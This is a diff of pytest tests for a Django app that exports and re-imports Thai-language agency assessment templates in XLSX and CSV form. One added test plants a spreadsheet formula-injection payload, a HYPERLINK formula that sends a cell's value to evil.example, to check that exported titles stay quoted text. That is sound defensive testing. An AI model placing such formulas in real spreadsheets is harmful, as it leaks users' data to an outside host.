@@ -118,6 +118,11 @@ def test_preview_of_another_agency_batch_is_404(world, framework):
     assert world.client_for("superuser").get(url(world, "import_preview", batch_id=batch.pk)).status_code == 404
 
 
+def _validations(sheet) -> dict[str, str]:
+    """Cell ranges of the sheet's list validations → their list formula."""
+    return {str(v.sqref): v.formula1 for v in sheet.data_validations.dataValidation if v.type == "list"}
+
+
 @pytest.mark.parametrize("layout", ["long", "wide"])
 def test_templates_download_fill_and_import_back(world, framework, layout):
     client = world.client_for("staff_a")
@@ -127,34 +132,64 @@ def test_templates_download_fill_and_import_back(world, framework, layout):
     sheet = workbook.active
     header = [c.value for c in sheet[1]]
     assert header[:3] == ["รหัสหน่วยงาน", "ชื่อหน่วยงาน", "ปีงบประมาณ"]
+    indicators = {i.number: i.name for i in framework.indicators.all()}
+    items = {i.code: i.title for i in framework.items.all()}
     if layout == "wide":
-        assert header[3:13] == [f"ตัวชี้วัดที่ {n}" for n in range(1, 11)] and header[13:] == ["O1", "O2", "O3", "O4"]
+        # Titles beside the codes, in the header the import reads up to the colon.
+        assert header[3:13] == [f"ตัวชี้วัดที่ {n}: {indicators[n]}" for n in range(1, 11)]
+        assert header[13:] == [f"{code}: {items[code]}" for code in ("O1", "O2", "O3", "O4")]
+        assert _validations(sheet) == {"N2:Q2": '"มี,ไม่มี"'}
         assert sheet.max_row == 2 and sheet.cell(2, 1).value == "A0001"
         for n in range(1, 11):
             sheet.cell(2, 3 + n).value = float(SEED_001_2565[n])
         for col in range(14, 18):
             sheet.cell(2, col).value = "มี"
     else:
-        assert header[3:7] == ["ตัวชี้วัดที่", "ข้อ", "คะแนน", "ผล"]
+        assert header[3:8] == ["ตัวชี้วัดที่", "ข้อ", "ชื่อตัวชี้วัด/ข้อ", "คะแนน", "ผล"]
         assert sheet.max_row == 1 + 10 + 4
+        assert [sheet.cell(r, 6).value for r in range(2, 12)] == [indicators[n] for n in range(1, 11)]
+        assert {sheet.cell(r, 5).value: sheet.cell(r, 6).value for r in range(12, 16)} == items
+        # The drop-down covers the four item rows' result cells, not the score rows.
+        assert _validations(sheet) == {"H12:H15": '"มี,ไม่มี"'}
         for row in range(2, sheet.max_row + 1):
             if sheet.cell(row, 4).value:
-                sheet.cell(row, 6).value = SEED_001_2565[int(sheet.cell(row, 4).value)]
+                sheet.cell(row, 7).value = SEED_001_2565[int(sheet.cell(row, 4).value)]
             else:
-                sheet.cell(row, 7).value = "ผ่าน"
+                sheet.cell(row, 8).value = "มี" if row % 2 else "ไม่มี"
     buffer = io.BytesIO()
     workbook.save(buffer)
     preview = upload(client, world, SimpleUploadedFile(f"filled-{layout}.xlsx", buffer.getvalue()))
     batch = ImportBatch.objects.get()
     assert batch.status == ImportStatus.READY, batch.errors
     client.post(url(world, "import_commit", batch_id=batch.pk))
-    assert Assessment.objects.get(agency=world.agency_a).overall_score == Decimal("93.17")
+    assessment = Assessment.objects.get(agency=world.agency_a)
+    assert assessment.overall_score == Decimal("93.17")
+    assert assessment.item_results.count() == 4
     assert preview
 
     csv_template = client.get(url(world, "import_template", layout=layout, fmt="csv"))
     assert csv_template.content.startswith(b"\xef\xbb\xbf")
     rows = list(csv.reader(io.StringIO(csv_template.content.decode("utf-8-sig"))))
     assert rows[0] == header
+    if layout == "long":
+        assert [r[5] for r in rows[1:]] == [indicators[n] for n in range(1, 11)] + list(items.values())
+
+
+def test_template_titles_are_never_formulas(world, framework):
+    """A title typed as '=HYPERLINK(…)' in the catalogue is text in both templates; the file imports back."""
+    item = framework.items.get(kind="O", number=1)
+    item.title = '=HYPERLINK("https://evil.example/?"&A2,"ดู")'
+    item.save()
+    client = world.client_for("staff_a")
+    sheet = load_workbook(io.BytesIO(client.get(url(world, "import_template", layout="long", fmt="xlsx")).content)).active
+    cell = next(c for c in sheet["F"] if c.value == item.title)
+    assert cell.data_type == "s" and cell.quotePrefix
+    rows = list(
+        csv.reader(io.StringIO(client.get(url(world, "import_template", layout="long", fmt="csv")).content.decode("utf-8-sig")))
+    )
+    assert "'" + item.title in [r[5] for r in rows]
+    wide = load_workbook(io.BytesIO(client.get(url(world, "import_template", layout="wide", fmt="xlsx")).content)).active
+    assert wide.cell(1, 14).value.startswith("O1: =HYPERLINK") and wide.cell(1, 14).data_type == "s"
 
 
 def test_template_for_supervisor_lists_area_agencies(world, framework):
@@ -164,3 +199,28 @@ def test_template_for_supervisor_lists_area_agencies(world, framework):
     )
     codes = [r[0] for r in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))][1:]
     assert sorted(codes) == ["A0001", "A0009", "S0001"]
+
+
+def test_import_that_computes_the_overall_clears_the_stale_note(world, framework):
+    """A note written with partial scores ("…ระบบจึงยังไม่คำนวณคะแนนรวม") spoke of the scores an
+    import replaces: after a file that computes the overall, the dashboard shows it and no note."""
+    stale = "ตัวชี้วัดอื่นไม่มีในเอกสาร ระบบจึงยังไม่คำนวณคะแนนรวม"
+    assessment = Assessment.objects.create(agency=world.agency_a, framework=framework, note=stale)
+    IndicatorScore.objects.create(assessment=assessment, indicator=framework.indicators.get(number=9), score=Decimal("92.50"))
+    client = world.client_for("staff_a")
+    dashboard = url(world, "dashboard")
+    before = client.get(dashboard).content.decode()
+    assert stale in before and '<div class="fs-3 fw-bold" id="overall">—</div>' in before
+
+    lines = ["รหัสหน่วยงาน,ปีงบประมาณ,ตัวชี้วัดที่,ข้อ,คะแนน,ผล"]
+    lines += [f"A0001,{YEAR},{n},,91.66," for n in range(1, 11)]
+    upload(client, world, SimpleUploadedFile("scores.csv", "\r\n".join(lines).encode("utf-8-sig")))
+    batch = ImportBatch.objects.get()
+    assert batch.status == ImportStatus.READY, batch.errors
+    client.post(url(world, "import_commit", batch_id=batch.pk))
+
+    after = client.get(dashboard).content.decode()
+    assert '<div class="fs-3 fw-bold" id="overall">91.66</div>' in after
+    assert stale not in after and "หมายเหตุ" not in after
+    assessment.refresh_from_db()
+    assert assessment.overall_score == Decimal("91.66") and assessment.note == ""
